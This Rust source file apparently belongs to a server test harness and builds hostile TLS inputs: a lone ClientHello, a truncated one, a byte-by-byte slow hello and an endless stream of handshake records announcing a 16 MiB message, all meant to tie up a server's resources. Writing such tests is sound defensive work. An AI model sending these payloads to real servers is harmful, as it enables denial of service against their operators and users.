//! Hostile TLS: handshakes that never end.

use std::{sync::Arc, time::Duration};

use rustls::{ClientConfig, ClientConnection, RootCertStore, pki_types::ServerName};

use super::Attack;

/// A whole `ClientHello` and nothing more: the server has computed its part of the handshake for nothing.
#[must_use]
pub fn hello_only() -> Attack {
    Attack::new(hello())
}

/// The first half of a `ClientHello`.
#[must_use]
pub fn half_hello() -> Attack {
    let mut half = hello();
    half.truncate(half.len() / 2);
    Attack::new(half)
}

/// A `ClientHello` byte by byte.
#[must_use]
pub fn slow_hello(pause: Duration) -> Attack {
    Attack::new("").dripping(hello(), pause)
}

/// Records of so many bytes each, whose handshake message goes on without end.
#[must_use]
pub fn endless_hello(pause: Duration) -> Attack {
    // A handshake record (22) of 1,024 bytes. The first begins a ClientHello (1) of 16 MiB less one byte.
    const LENGTH: u16 = 1024;
    let [high, low] = LENGTH.to_be_bytes();
    let mut first = vec![22, 3, 1, high, low, 1, 0xff, 0xff, 0xff];
    first.resize(5 + usize::from(LENGTH), 0);
    let mut next = vec![22, 3, 1, high, low];
    next.resize(5 + usize::from(LENGTH), 0);
    Attack::new(first).repeating(next, pause)
}

/// A `ClientHello` as a well-behaved client sends it.
fn hello() -> Vec<u8> {
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let config = ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(RootCertStore::empty())
        .with_no_client_auth();
    let name = ServerName::try_from("localhost").unwrap();
    let mut connection = ClientConnection::new(Arc::new(config), name).unwrap();
    let mut bytes = Vec::new();
    connection.write_tls(&mut bytes).unwrap();
    bytes
}
